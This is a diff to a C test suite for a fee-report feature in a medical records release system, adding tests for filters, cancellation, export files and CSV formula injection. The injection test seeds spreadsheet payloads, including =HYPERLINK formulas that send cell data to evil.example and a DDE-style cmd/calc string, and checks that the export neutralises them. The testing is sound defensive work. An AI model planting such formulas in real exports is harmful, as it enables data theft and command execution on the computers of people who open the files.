@@ -14,6 +14,8 @@
 
 static CstTestDb *db;
 static char *cli;
+static char *clerk_login;   /* issued the invoices issue () wrote */
+static char *owner_login;   /* wrote the ones insert_invoice () planted */
 
 typedef struct
 {
@@ -197,6 +199,8 @@ seed (void)
   g_autofree char *template_id = NULL;
   g_autofree char *no_notice_id = NULL;
 
+  clerk_login = sql_value (clerk, "SELECT session_user", 0, NULL);
+  owner_login = sql_value (owner, "SELECT session_user", 0, NULL);
   g_object_unref (cst_test_db_add_request (owner, "REPORT-1"));
   for (guint i = 0; i < N_SEEDED; i++)
     {
@@ -243,6 +247,11 @@ seed (void)
   sql_ok (owner, "INSERT INTO rendered_documents (request_id, template_id, page_count, sha256)"
                  " SELECT $1, id, 1, repeat ('b', 64) FROM document_templates WHERE kind = 'cover-letter'",
           1, (const char *[]) { no_notice_id });
+  /* One request of the period in another status, for the status filter. */
+  g_clear_pointer (&no_notice_id, g_free);
+  no_notice_id = g_strdup_printf ("%" G_GINT64_FORMAT, seeded[WITH_NOTICE].id);
+  sql_ok (owner, "UPDATE roi_requests SET status = 'cancelled' WHERE id = $1", 1,
+          (const char *[]) { no_notice_id });
 }
 
 static void
@@ -351,6 +360,147 @@ test_flags_and_totals (void)
   g_assert_error (error, CST_ERROR, CST_ERROR_INVALID_INPUT);
 }
 
+static gboolean
+collect_id (const CstFeeReportRow *row,
+            gpointer               user_data,
+            GError               **error)
+{
+  Seen *seen = user_data;
+  Seeded *s = find_seeded (row->request_id);
+
+  g_assert_nonnull (s);
+  seen->seen |= 1u << (s - seeded);
+  seen->n_rows++;
+  return TRUE;
+}
+
+/* The seeded indexes the report returns for @filter, as bits. */
+static guint
+reported (PGconn                   *conn,
+          const CstFeeReportFilter *filter)
+{
+  g_autoptr(GError) error = NULL;
+  Seen seen = { 0 };
+
+  g_assert_true (cst_fee_report_run (conn, filter, collect_id, &seen, NULL, &error));
+  g_assert_no_error (error);
+  return seen.seen;
+}
+
+#define BIT(i) (1u << (i))
+
+/* Each filter keeps what it names and drops the rest: the clerk by the
+ * login that issued an invoice, the status by the request's status now;
+ * a misspelt status or class is an error, not an empty report. */
+static void
+test_filters (void)
+{
+  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
+  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
+  g_autoptr(GError) error = NULL;
+  guint in_period = 0;
+  guint by_clerk = BIT (CLEAN) | BIT (OVERRIDE) | BIT (LATE) | BIT (NO_NOTICE) |
+                   BIT (WITH_NOTICE) | BIT (LATE_NOTICE);
+  CstFeeReportFilter filter;
+
+  for (guint i = 0; i < N_SEEDED; i++)
+    if (i != OUTSIDE && i != NOT_INVOICED)
+      in_period |= BIT (i);
+  period (&filter);
+  g_assert_cmpuint (reported (auditor, &filter), ==, in_period);
+
+  filter.clerk = clerk_login;
+  g_assert_cmpuint (reported (auditor, &filter), ==, by_clerk);
+  filter.clerk = owner_login;
+  g_assert_cmpuint (reported (auditor, &filter), ==, BIT (ABOVE_MAX) | BIT (PATIENT_SEARCH));
+  filter.clerk = "nobody_at_all";
+  g_assert_cmpuint (reported (auditor, &filter), ==, 0);
+  filter.clerk = NULL;
+
+  filter.status = "cancelled";
+  g_assert_cmpuint (reported (auditor, &filter), ==, BIT (WITH_NOTICE));
+  filter.status = "received";
+  g_assert_cmpuint (reported (auditor, &filter), ==, in_period & ~BIT (WITH_NOTICE));
+  filter.status = "released";
+  g_assert_cmpuint (reported (auditor, &filter), ==, 0);
+
+  /* Filters combine: the clerk's received attorney requests. */
+  filter.status = "received";
+  filter.clerk = clerk_login;
+  filter.requester = "attorney";
+  g_assert_cmpuint (reported (auditor, &filter), ==,
+                    by_clerk & ~BIT (WITH_NOTICE) & ~BIT (LATE));
+
+  filter.requester = NULL;
+  filter.status = "shipped";
+  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, NULL, &error));
+  g_assert_error (error, CST_ERROR, CST_ERROR_INVALID_INPUT);
+  g_assert_nonnull (strstr (error->message, "shipped"));
+  g_clear_error (&error);
+  filter.status = NULL;
+  filter.requester = "lawyer";
+  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, NULL, &error));
+  g_assert_error (error, CST_ERROR, CST_ERROR_INVALID_INPUT);
+}
+
+/* A cancelled report stops with G_IO_ERROR_CANCELLED, and an export
+ * cancelled (or failing) leaves no file, not even its temporary one; a
+ * good export leaves only the file asked for. */
+static void
+test_cancel_and_export_file (void)
+{
+  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
+  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
+  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("fee-report-export-XXXXXX", NULL);
+  g_autofree char *path = g_build_filename (dir, "report.csv", NULL);
+  g_autoptr(CstFeeReportSummary) summary = NULL;
+  g_autoptr(GDir) listing = NULL;
+  CstFeeReportFormat formats[] = { CST_FEE_REPORT_FORMAT_CSV, CST_FEE_REPORT_FORMAT_PDF };
+  CstFeeReportFilter filter;
+
+  period (&filter);
+  filter.cancellable = cancellable;
+  g_cancellable_cancel (cancellable);
+  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, NULL, &error));
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+  g_clear_error (&error);
+  /* The connection is usable again after a cancelled run. */
+  g_assert_cmpint (PQtransactionStatus (auditor), ==, PQTRANS_IDLE);
+  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
+    {
+      g_assert_false (cst_fee_report_export_file (auditor, &filter, formats[i], path, NULL, &error));
+      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+      g_clear_error (&error);
+      listing = g_dir_open (dir, 0, NULL);
+      g_assert_null (g_dir_read_name (listing));
+      g_clear_pointer (&listing, g_dir_close);
+    }
+
+  filter.cancellable = NULL;
+  g_assert_true (cst_fee_report_export_file (auditor, &filter, CST_FEE_REPORT_FORMAT_CSV, path,
+                                             &summary, &error));
+  g_assert_no_error (error);
+  g_assert_cmpint (cst_fee_report_summary_get_n_requests (summary), ==, 8);
+  /* Only the export that was written is in the audit log, under the
+   * auditor's login. */
+  {
+    g_autoptr(PGconn) owner = cst_test_db_connect (db);
+    g_autofree char *n = sql_value (owner,
+      "SELECT count (*) FROM audit_log WHERE action = 'EVENT' AND new_row->>'kind' = 'report.exported'"
+      "   AND actor = (SELECT rolname FROM pg_roles WHERE rolname = $1)", 1,
+      (const char *[]) { PQuser (auditor) });
+
+    g_assert_cmpstr (n, ==, "1");
+  }
+  listing = g_dir_open (dir, 0, NULL);
+  g_assert_cmpstr (g_dir_read_name (listing), ==, "report.csv");
+  g_assert_null (g_dir_read_name (listing));
+  g_unlink (path);
+  g_rmdir (dir);
+}
+
 /* RFC 4180: fields split on commas outside quotes, "" inside quotes is a
  * quote, records end with CRLF. */
 static GPtrArray *
@@ -449,6 +599,113 @@ test_csv (void)
   g_assert_cmpint (flagged_override, >, 0);
   g_assert_cmpuint (g_hash_table_size (totals), ==, 8);
   g_assert_cmpint (line_sum, ==, cst_fee_report_summary_get_total_cents (summary) + 1000);
+}
+
+/* A period of its own (March 2024) with text a spreadsheet would run: an
+ * override reason, a rule, a citation and a description typed to start
+ * with "=", "@", "+" and "-", a requester named like a formula, and an
+ * adjustment that credits 500 cents. */
+static gint64
+seed_injection (void)
+{
+  g_autoptr(PGconn) owner = cst_test_db_connect (db);
+  g_autofree char *requester = sql_value (owner,
+    "INSERT INTO requesters (kind, name) VALUES ('attorney',"
+    " '=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")') RETURNING id", 0, NULL);
+  g_autofree char *patient = sql_value (owner, "SELECT id FROM patients LIMIT 1", 0, NULL);
+  g_autofree char *id = sql_value (owner,
+    "INSERT INTO roi_requests (patient_id, requester_id, received_date, jurisdiction, format, delivery)"
+    " VALUES ($1, $2, '2024-03-04', 'PA', 'paper', 'pickup') RETURNING id",
+    2, (const char *[]) { patient, requester });
+  g_autofree char *invoice = sql_value (owner,
+    "INSERT INTO invoices (request_id, method, jurisdiction, received_date, quoted_cents, total_cents,"
+    "                      lines, justification, override_reason)"
+    " VALUES ($1, 'state-schedule', 'PA', '2024-03-04', 700, 700,"
+    "         jsonb_build_array (jsonb_build_object ('rule', '@SUM(1+1)*cmd|'' /C calc''!A0',"
+    "           'citation', '+1 Pa. Code 1', 'description', E'\\t-2 pages', 'quantity', 1,"
+    "           'amount_cents', 700)), '{}', '=HYPERLINK(\"http://evil.example/\",\"Why\")')"
+    " RETURNING id", 1, (const char *[]) { id });
+
+  sql_ok (owner,
+          "INSERT INTO invoices (request_id, adjusts_invoice_id, method, jurisdiction, received_date,"
+          "                      quoted_cents, total_cents, lines, justification, override_reason)"
+          " VALUES ($1, $2, 'adjustment', 'PA', '2024-03-04', 0, -500,"
+          "         '[{\"rule\": \"adjustment\", \"citation\": \"\", \"description\": \"Refund\","
+          "           \"quantity\": 1, \"amount_cents\": -500}]', '{}', '-500 refunded')",
+          2, (const char *[]) { id, invoice });
+  return g_ascii_strtoll (id, NULL, 10);
+}
+
+static gboolean
+looks_like_integer (const char *text)
+{
+  const char *p = text[0] == '-' ? text + 1 : text;
+
+  if (*p == '\0')
+    return FALSE;
+  for (; *p; p++)
+    if (!g_ascii_isdigit (*p))
+      return FALSE;
+  return TRUE;
+}
+
+static void
+test_csv_injection (void)
+{
+  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
+  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
+  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
+  g_autoptr(GPtrArray) records = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = NULL;
+  CstFeeReportFilter filter = { 0 };
+  guint n_checked = 0;
+
+  seed_injection ();
+  g_assert_true (cst_input_parse_date ("2024-03-01", &filter.from, NULL));
+  g_assert_true (cst_input_parse_date ("2024-03-31", &filter.to, NULL));
+  g_assert_true (cst_fee_report_write_csv (auditor, &filter, out, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
+  g_output_stream_close (out, NULL, NULL);
+  text = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
+  g_assert_null (strstr (text, "\"=HYPERLINK"));
+  g_assert_null (strstr (text, ",=HYPERLINK"));
+  records = parse_csv (text);
+  g_assert_cmpuint (records->len, ==, 3);   /* header, the line, the adjustment's line */
+  for (guint r = 1; r < records->len; r++)
+    {
+      char **f = g_ptr_array_index (records, r);
+
+      /* No cell starts a formula, except integers in the money columns. */
+      for (guint c = 0; f[c]; c++)
+        if (f[c][0] != '\0' && strchr ("=+-@\t\r", f[c][0]) != NULL)
+          {
+            g_assert_true (looks_like_integer (f[c]));
+            g_assert_true (c == (guint) column ("amount_cents") ||
+                           c == (guint) column ("request_total_cents") ||
+                           c == (guint) column ("legal_maximum_cents") ||
+                           c == (guint) column ("flat_option_cents") ||
+                           c == (guint) column ("quantity"));
+          }
+      g_assert_cmpstr (f[column ("override_reason")], ==,
+                       "'=HYPERLINK(\"http://evil.example/\",\"Why\")");
+      g_assert_cmpstr (f[column ("request_total_cents")], ==, "200");
+      if (g_strcmp0 (f[column ("description")], "Refund") == 0)
+        {
+          g_assert_cmpstr (f[column ("amount_cents")], ==, "-500");
+          n_checked++;
+        }
+      else
+        {
+          g_assert_cmpstr (f[column ("rule")], ==, "'@SUM(1+1)*cmd|' /C calc'!A0");
+          g_assert_cmpstr (f[column ("citation")], ==, "'+1 Pa. Code 1");
+          g_assert_cmpstr (f[column ("description")], ==, "'\t-2 pages");
+          g_assert_cmpstr (f[column ("amount_cents")], ==, "700");
+          n_checked++;
+        }
+    }
+  g_assert_cmpuint (n_checked, ==, 2);
 }
 
 static void
@@ -590,6 +847,14 @@ test_cli (void)
   g_assert_cmpint (run_cli (&err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
                             "--format", "csv", NULL), ==, 2);
   g_assert_nonnull (strstr (err, "--output"));
+  /* An unknown status is named, with the statuses there are. */
+  g_clear_pointer (&err, g_free);
+  g_assert_cmpint (run_cli (&err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
+                            "--status", "shipped", "--format", "csv", "--output", path, NULL), ==, 2);
+  g_assert_nonnull (strstr (err, "--status"));
+  g_assert_nonnull (strstr (err, "shipped"));
+  g_assert_nonnull (strstr (err, "quality_check"));
+  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
 
   g_clear_pointer (&err, g_free);
   g_assert_cmpint (run_cli (&err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
@@ -605,12 +870,34 @@ test_cli (void)
                             "--format", "pdf", "--output", pdf, NULL), ==, 0);
   g_assert_true (g_file_test (pdf, G_FILE_TEST_IS_REGULAR));
 
-  audit = cst_db_exec (owner, "SELECT d->>'from', d->>'to', d->>'state', d->>'requester', d->>'format'"
+  /* --clerk and --status: the owner's two planted invoices, both received. */
+  g_clear_pointer (&err, g_free);
+  g_clear_pointer (&csv, g_free);
+  g_clear_pointer (&records, g_ptr_array_unref);
+  g_assert_cmpint (run_cli (&err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
+                            "--clerk", owner_login, "--status", "received", "--format", "csv",
+                            "--output", path, NULL), ==, 0);
+  g_assert_true (g_file_get_contents (path, &csv, NULL, NULL));
+  records = parse_csv (csv);
+  {
+    g_autoptr(GHashTable) references = g_hash_table_new (g_str_hash, g_str_equal);
+
+    for (guint r = 1; r < records->len; r++)
+      g_hash_table_add (references, ((char **) g_ptr_array_index (records, r))[column ("reference")]);
+    g_assert_cmpuint (g_hash_table_size (references), ==, 2);
+  }
+
+  audit = cst_db_exec (owner, "SELECT d->>'from', d->>'to', d->>'state', d->>'requester', d->>'format',"
+                              "       d->>'clerk', d->>'status'"
                               "  FROM (SELECT id, new_row->'details' AS d FROM audit_log"
-                              "         WHERE action = 'EVENT' AND new_row->>'kind' = 'report.exported') e"
-                              " ORDER BY id", 0, NULL, NULL);
+                              "         WHERE action = 'EVENT' AND new_row->>'kind' = 'report.exported'"
+                              "           AND actor = $1) e"
+                              " ORDER BY id", 1, (const char *[]) { owner_login }, NULL);
   g_assert_nonnull (audit);
-  g_assert_cmpint (PQntuples (audit), ==, 2);
+  g_assert_cmpint (PQntuples (audit), ==, 3);
+  g_assert_cmpstr (cst_db_value (audit, 2, 5), ==, owner_login);
+  g_assert_cmpstr (cst_db_value (audit, 2, 6), ==, "received");
+  g_assert_null (cst_db_value (audit, 0, 5));
   g_assert_cmpstr (cst_db_value (audit, 0, 0), ==, "2025-06-01");
   g_assert_cmpstr (cst_db_value (audit, 0, 1), ==, "2025-07-31");
   g_assert_cmpstr (cst_db_value (audit, 0, 2), ==, "PA");
@@ -633,7 +920,10 @@ main (int    argc,
   db = cst_test_db_new ();
   seed ();
   g_test_add_func ("/fee/report/flags-and-totals", test_flags_and_totals);
+  g_test_add_func ("/fee/report/filters", test_filters);
+  g_test_add_func ("/fee/report/cancel-and-export-file", test_cancel_and_export_file);
   g_test_add_func ("/fee/report/csv", test_csv);
+  g_test_add_func ("/fee/report/csv-injection", test_csv_injection);
   g_test_add_func ("/fee/report/pdf", test_pdf);
   g_test_add_func ("/fee/report/auditor-changes-nothing", test_auditor_changes_nothing);
   g_test_add_func ("/fee/report/cli", test_cli);
@@ -641,5 +931,7 @@ main (int    argc,
   status = g_test_run ();
   cst_test_db_free (db);
   g_free (cli);
+  g_free (clerk_login);
+  g_free (owner_login);
   return status;
 }
